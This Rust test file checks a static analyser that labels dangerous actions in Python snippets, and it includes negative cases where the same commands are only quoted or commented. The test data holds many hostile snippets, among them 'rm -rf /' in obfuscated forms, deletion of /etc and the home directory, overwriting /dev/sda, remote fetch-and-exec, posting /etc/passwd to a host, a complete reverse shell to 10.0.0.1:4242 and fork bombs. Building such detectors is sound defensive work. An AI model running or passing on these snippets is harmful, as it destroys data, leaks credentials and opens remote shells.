use super::super::Language::Python;
use super::check;

#[test]
fn commands() {
    check(
        Python,
        &[
            ("import os; os.system('rm -rf /')", "$ rm -rf /"),
            ("import os\nos.system(\"rm -rf /\")", "$ rm -rf /"),
            ("__import__('os').system('rm -rf /')", "$ rm -rf /"),
            ("getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')", "$ rm -rf /"),
            ("import os as o; o.system('id')", "$ id"),
            ("from os import system; system('id')", "$ id"),
            ("from os import system as s, path; s('id')", "$ id"),
            ("from os import *; system('id')", "$ id"),
            ("import importlib; importlib.import_module('os').popen('id').read()", "$ id"),
            ("f = os.system; f('id')", "$ id"),
            ("c = 'rm -rf '; p = '/'; os.system(c + p)", "$ rm -rf /"),
            ("os.system('rm -rf %s' % '/')", "$ rm -rf /"),
            ("os.system('rm -rf {}'.format('/etc'))", "$ rm -rf /etc"),
            ("d = '/'; os.system(f'rm -rf {d}')", "$ rm -rf /"),
            ("os.system(f\"rm -rf {x}\")", "$ rm -rf ?"),
            ("os.system('rm' ' -rf' ' /')", "$ rm -rf /"),
            ("os.system('''rm -rf /''')", "$ rm -rf /"),
            ("os.system(r'rm \\x')", "$ rm \\x"),
            ("os.system('r\\x6d -rf /')", "$ rm -rf /"),
            ("os.system(chr(114) + chr(109) + ' -rf /')", "$ rm -rf /"),
            ("os.system(''.join(['r', 'm']))", "$ rm"),
            ("os.system('/ fr- mr'[::-1])", "$ rm -rf /"),
            ("subprocess.run('rm -rf /', shell=True)", "$ rm -rf /"),
            ("subprocess.run(['rm', '-rf', '/'])", "[rm -rf /]"),
            ("import subprocess as sp; sp.check_call(['rm', '-rf', '/'])", "[rm -rf /]"),
            ("from subprocess import run, PIPE\nrun(['rm', '-rf', p], check=True)", "[rm -rf ?]"),
            ("subprocess.run(['sh'], input=b'rm -rf /')", "[sh] <rm -rf /"),
            ("subprocess.Popen('sh', stdin=-1).communicate('rm -rf /')", "$ sh <rm -rf /"),
            ("os.execvp('rm', ['rm', '-rf', '/'])", "[rm -rf /]"),
            ("os.execl('/bin/rm', 'rm', '-rf', '/')", "[/bin/rm -rf /]"),
            ("os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')", "[rm -rf /]"),
            ("for c in ['rm -rf /', 'id x']: os.system(c)", "$ rm -rf /; $ id x"),
            ("if True:\n    x = 1\n    os.system('id')\nelse:\n    pass", "$ id"),
            ("x = lambda: os.system('id')", "$ id"),
            ("print(os.popen('id').read())", "$ id"),
        ],
    );
}

#[test]
fn what_is_only_said() {
    check(
        Python,
        &[
            ("print(\"os.system('rm -rf /')\")", ""),
            ("# os.system('rm -rf /')", ""),
            ("x = 1 # os.system('rm -rf /')\nprint(x)", ""),
            ("'''os.system(\"rm -rf /\")'''", ""),
            ("help(os.system)", ""),
            ("def system(x): pass\nsystem('rm -rf /')", ""),
            ("import platform; print(platform.system())", "$ ?"),
            ("print(1 + 1)", ""),
            ("import sys; print(sys.version)", ""),
            ("import json,sys; print(json.load(sys.stdin)['a'])", ""),
            ("[].remove(x)", ""),
            ("d = {'rm': 1}; d.pop('rm')", ""),
            ("print('\\n'.join(sorted(x for x in y)))", ""),
        ],
    );
}

#[test]
fn files() {
    check(
        Python,
        &[
            ("import shutil; shutil.rmtree('/')", "del! /"),
            ("from shutil import rmtree as r; r('/')", "del! /"),
            ("p='/'; shutil.rmtree(p)", "del! /"),
            ("shutil.rmtree(p)", "del! ?"),
            ("shutil.rmtree('build', ignore_errors=True)", "del! build"),
            ("shutil.rmtree(os.path.expanduser('~'))", "del! ~"),
            ("shutil.rmtree(os.environ['HOME'])", "del! ~"),
            ("shutil.rmtree(os.environ.get('HOME') + '/x')", "del! ~/x"),
            ("os.remove('/etc/passwd')", "del /etc/passwd"),
            ("from pathlib import Path; Path('/etc/passwd').unlink()", "del /etc/passwd"),
            ("import pathlib; (pathlib.Path('/') / 'etc').unlink(missing_ok=True)", "del /etc"),
            ("for f in glob.glob('/etc/*'): os.remove(f)", "del* /etc/*"),
            ("for f in os.listdir('/etc'): os.remove('/etc/' + f)", "del* /etc/*"),
            ("for f in os.listdir('/etc'): os.remove(os.path.join('/etc', f))", "del* /etc/*"),
            ("[os.remove(f) for f in glob.glob('*')]", "del* *"),
            (
                "for r, d, fs in os.walk('/'):\n  for f in fs:\n    os.remove(os.path.join(r, f))",
                "del!* /**/*",
            ),
            ("for p in Path('/srv').rglob('*.log'): p.unlink()", "del!* /srv/**/*.log"),
            ("list(map(os.remove, glob.glob('*.c')))", "del* *.c"),
            ("shutil.rmtree(sys.argv[1])", "del! first"),
            ("shutil.rmtree(sys.argv[2])", "del! /second"),
            ("open('/dev/sda', 'wb').write(b'\\0' * 512)", "w /dev/sda"),
            ("with open('/etc/crontab', 'a') as f: f.write('x')", "w /etc/crontab"),
            ("open('notes.txt').read()", "r notes.txt"),
            ("open('x', mode='w')", "w x"),
            ("Path('a').write_text('b')", "w a"),
            ("shutil.move('a', '/dev/null')", "del! a; w /dev/null"),
            ("shutil.copyfile('a', 'b')", "w b; r a"),
            ("os.chmod('/etc', 0o777)", "a /etc"),
            ("os.kill(-1, 9)", "kill -1"),
            ("import os, signal; os.kill(os.getppid(), signal.SIGKILL)", "kill ?"),
        ],
    );
}

#[test]
fn code_within_code() {
    check(
        Python,
        &[
            ("exec('import os; os.system(\"id\")')", "$ id; exec constant"),
            ("eval('__import__(\"os\").system(\"id\")')", "$ id; exec constant"),
            ("exec(compile('os.system(\"id\")', 'x', 'exec'))", "$ id; exec constant"),
            ("import base64; exec(base64.b64decode('b3Muc3lzdGVtKCdpZCcp'))", "$ id; exec decoded constant"),
            (
                "exec(bytes.fromhex('6f732e73797374656d2827696427290a').decode())",
                "$ id; exec decoded constant",
            ),
            ("exec(__import__('base64').b64decode(x))", "exec decoded"),
            ("import zlib; exec(zlib.decompress(b'x'))", "exec decoded"),
            ("import marshal; exec(marshal.loads(b'x'))", "exec decoded"),
            ("exec(''.join(chr(c) for c in data))", "exec decoded"),
            ("import urllib.request as u; exec(u.urlopen('http://x/y').read())", "exec net; net"),
            ("import requests; exec(requests.get('http://x').text)", "exec net; net"),
            ("exec(sys.stdin.read())", "exec stdin"),
            ("exec(open('x.py').read())", "r x.py; exec x.py"),
            ("os.system(requests.get('http://x').text)", "$ ? net; net"),
            ("os.system(base64.b64decode('aWQ=').decode())", "$ id decoded"),
            ("requests.post('http://x', data=open('/etc/passwd').read())", "r /etc/passwd; net"),
        ],
    );
}

#[test]
fn shells_for_others_and_bombs() {
    check(
        Python,
        &[
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
                "[/bin/sh -i]; net; reverse",
            ),
            (
                "import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('/bin/bash')",
                "$ /bin/bash; net; reverse",
            ),
            ("import pty; pty.spawn('/bin/bash')", "$ /bin/bash"),
            ("import os\nwhile True: os.fork()", "bomb"),
            ("import os\nwhile 1:\n    os.fork()", "bomb"),
            ("import os; os.fork()", ""),
            ("cursor.execute('DROP TABLE users')", "deletes a table"),
            ("cursor.execute('SELECT 1')", ""),
            ("import redis; redis.Redis().flushall()", "deletes all keys in the store"),
            ("MongoClient().drop_database('x')", "deletes a whole database"),
            ("coll.delete_many({})", "deletes every document in a collection"),
            ("coll.delete_many({'a': 1})", ""),
            ("boto3.client('s3').delete_bucket(Bucket='x')", "deletes a bucket"),
            ("User.objects.all().delete()", "deletes every row in a table"),
            ("User.objects.filter(id=1).delete()", ""),
        ],
    );
}
